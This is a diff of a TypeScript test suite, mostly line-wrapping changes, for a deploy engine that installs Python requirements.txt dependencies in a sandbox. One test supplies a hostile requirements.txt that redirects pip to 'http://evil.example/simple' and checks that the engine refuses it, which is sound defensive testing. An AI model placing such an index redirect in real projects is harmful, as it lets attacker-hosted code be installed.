@@ -6,11 +6,14 @@ import { type LocalIndex, makeWheel, serveIndex } from './local-index.js';
 
 const HANDLER = `import tinydep\n\ndef handler(event, context):\n    return {"value": tinydep.VALUE, "from": tinydep.__file__.split("/")[-3]}\n`;
 
-async function buildError(p: Promise<unknown>): Promise<{ code: string; message: string; details?: Record<string, unknown> }> {
+async function buildError(
+  p: Promise<unknown>,
+): Promise<{ code: string; message: string; details?: Record<string, unknown> }> {
   try {
     await p;
   } catch (err) {
-    if (isNanoGridError(err)) return { code: err.code, message: err.message, ...(err.details ? { details: err.details } : {}) };
+    if (isNanoGridError(err))
+      return { code: err.code, message: err.message, ...(err.details ? { details: err.details } : {}) };
     throw err;
   }
   throw new Error('expected the deploy to fail');
@@ -18,8 +21,13 @@ async function buildError(p: Promise<unknown>): Promise<{ code: string; message:
 
 describe('parseRequirements', () => {
   it('accepts names, extras, versions, markers and --hash', () => {
-    const text = 'requests==2.31.0  # pinned\nFoo_Bar[extra1, x] >=1.0, <2 ; python_version >= "3.8"\n# comment\n\nbaz \\\n  ~=1.2 --hash=sha256:abc123\n';
-    expect(parseRequirements(text).map((r) => [r.name, r.line])).toEqual([['requests', 1], ['Foo_Bar', 2], ['baz', 5]]);
+    const text =
+      'requests==2.31.0  # pinned\nFoo_Bar[extra1, x] >=1.0, <2 ; python_version >= "3.8"\n# comment\n\nbaz \\\n  ~=1.2 --hash=sha256:abc123\n';
+    expect(parseRequirements(text).map((r) => [r.name, r.line])).toEqual([
+      ['requests', 1],
+      ['Foo_Bar', 2],
+      ['baz', 5],
+    ]);
   });
 
   it.each([
@@ -51,7 +59,10 @@ describe('requirements.txt installed at deploy (process sandbox, local index)', 
   let engine: BuildEngine;
   beforeAll(async () => {
     index = await serveIndex([await makeWheel('tinydep', '1.0.0', { 'tinydep/__init__.py': 'VALUE = "tiny 1.0"\n' })]);
-    engine = await buildEngine(pythonRuntime({ dependencies: { indexUrl: index.url } }), processSandbox({ logger: silentLogger }));
+    engine = await buildEngine(
+      pythonRuntime({ dependencies: { indexUrl: index.url } }),
+      processSandbox({ logger: silentLogger }),
+    );
   });
   afterAll(async () => {
     await engine?.close();
@@ -75,7 +86,9 @@ describe('requirements.txt installed at deploy (process sandbox, local index)', 
 
   it("a package that does not exist: BUILD_FAILED naming it with pip's output, nothing deployed", async () => {
     const listed = (await engine.ng.registry.list()).length;
-    const err = await buildError(engine.deploy({ 'main.py': HANDLER, 'requirements.txt': 'tinydep==1.0.0\nno-such-package-xyz==9.9\n' }));
+    const err = await buildError(
+      engine.deploy({ 'main.py': HANDLER, 'requirements.txt': 'tinydep==1.0.0\nno-such-package-xyz==9.9\n' }),
+    );
     expect(err.code).toBe('BUILD_FAILED');
     expect(err.message).toContain('no-such-package-xyz');
     expect(err.message).toMatch(/No matching distribution found for no-such-package-xyz/);
@@ -85,7 +98,9 @@ describe('requirements.txt installed at deploy (process sandbox, local index)', 
 
   it('a hostile requirements.txt is refused before any install runs', async () => {
     const before = engine.builds();
-    const err = await buildError(engine.deploy({ 'main.py': HANDLER, 'requirements.txt': '--index-url http://evil.example/simple\ntinydep\n' }));
+    const err = await buildError(
+      engine.deploy({ 'main.py': HANDLER, 'requirements.txt': '--index-url http://evil.example/simple\ntinydep\n' }),
+    );
     expect(err).toMatchObject({ code: 'BUILD_FAILED', details: { field: 'requirements.txt', line: 1 } });
     expect(engine.builds()).toBe(before);
   });
@@ -98,7 +113,10 @@ describe('requirements.txt installed at deploy (process sandbox, local index)', 
       'tinydep/__init__.py': 'VALUE = "vendored"\n',
       'tinydep-1.0.0.dist-info/METADATA': 'Name: tinydep\n',
     });
-    const empty = await engine.deploy({ 'main.py': 'def handler(event, context):\n    return 1\n', 'requirements.txt': '# nothing\n' });
+    const empty = await engine.deploy({
+      'main.py': 'def handler(event, context):\n    return 1\n',
+      'requirements.txt': '# nothing\n',
+    });
     expect(engine.builds()).toBe(before);
     expect((await engine.run(vendored.function_id)).result).toMatchObject({ value: 'vendored' });
     expect((await engine.run(empty.function_id)).result).toBe(1);
@@ -107,7 +125,10 @@ describe('requirements.txt installed at deploy (process sandbox, local index)', 
 
 describe('requirements.txt on a sandbox that does not isolate', () => {
   it('is refused unless allowUnisolated is set', async () => {
-    const engine = await buildEngine(pythonRuntime({ dependencies: { indexUrl: 'http://127.0.0.1:9/simple/' } }), processSandbox({ bwrap: false, logger: silentLogger }));
+    const engine = await buildEngine(
+      pythonRuntime({ dependencies: { indexUrl: 'http://127.0.0.1:9/simple/' } }),
+      processSandbox({ bwrap: false, logger: silentLogger }),
+    );
     try {
       const err = await buildError(engine.deploy({ 'main.py': HANDLER, 'requirements.txt': 'tinydep\n' }));
       expect(err.code).toBe('BUILD_FAILED');
